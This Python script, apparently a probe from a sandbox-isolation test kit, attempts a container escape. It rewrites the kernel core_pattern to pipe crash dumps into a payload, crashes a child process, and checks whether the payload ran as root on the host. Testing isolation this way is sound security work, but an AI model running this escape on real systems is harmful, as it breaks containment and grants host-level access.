# The kernel pipes core dumps into the program that core_pattern names: as root, on the host.
import os
import resource
import signal
import time
from pathlib import Path

from kit import attempt, finish, step, write

Path("payload.sh").write_text("#!/bin/sh\nid > /work/from-the-host\n")
os.chmod("payload.sh", 0o755)
for path in ("/proc/sys/kernel/core_pattern", "/proc/self/root/proc/sys/kernel/core_pattern", "/proc/1/root/proc/sys/kernel/core_pattern"):
    attempt(path, write, path, "|/work/payload.sh")
step("core dumps without a limit", resource.setrlimit, resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
child = os.fork()
if child == 0:
    os.kill(os.getpid(), signal.SIGSEGV)
os.waitpid(child, 0)
time.sleep(0.3)
attempt("the payload ran", lambda: Path("from-the-host").read_text())
finish()
